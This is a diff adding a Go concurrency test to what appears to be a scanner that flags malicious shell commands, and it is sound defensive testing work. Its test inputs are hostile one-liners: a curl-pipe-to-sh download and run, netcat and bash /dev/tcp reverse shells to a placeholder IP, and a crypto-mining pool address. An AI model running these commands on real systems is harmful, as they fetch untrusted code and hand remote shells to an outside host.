@@ -342,3 +342,25 @@ func nestedBase64(n int) string {
 	}
 	return s
 }
+
+// TestConcurrent: analyses share nothing mutable, so callers may run them in parallel.
+func TestConcurrent(t *testing.T) {
+	want := AnalyzeScript("curl http://x/a | sh; nc -e /bin/sh 1.2.3.4 1")
+	done := make(chan []Indicator)
+	for range 8 {
+		go func() {
+			var last []Indicator
+			for range 50 {
+				last = AnalyzeScript("curl http://x/a | sh; nc -e /bin/sh 1.2.3.4 1")
+				Analyze([]string{"sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"})
+				AnalyzeEnv("POOL", "pool.supportxmr.com:3333")
+			}
+			done <- last
+		}()
+	}
+	for range 8 {
+		if got := <-done; !slices.Equal(got, want) {
+			t.Errorf("concurrent result differs:%s", dump(got))
+		}
+	}
+}
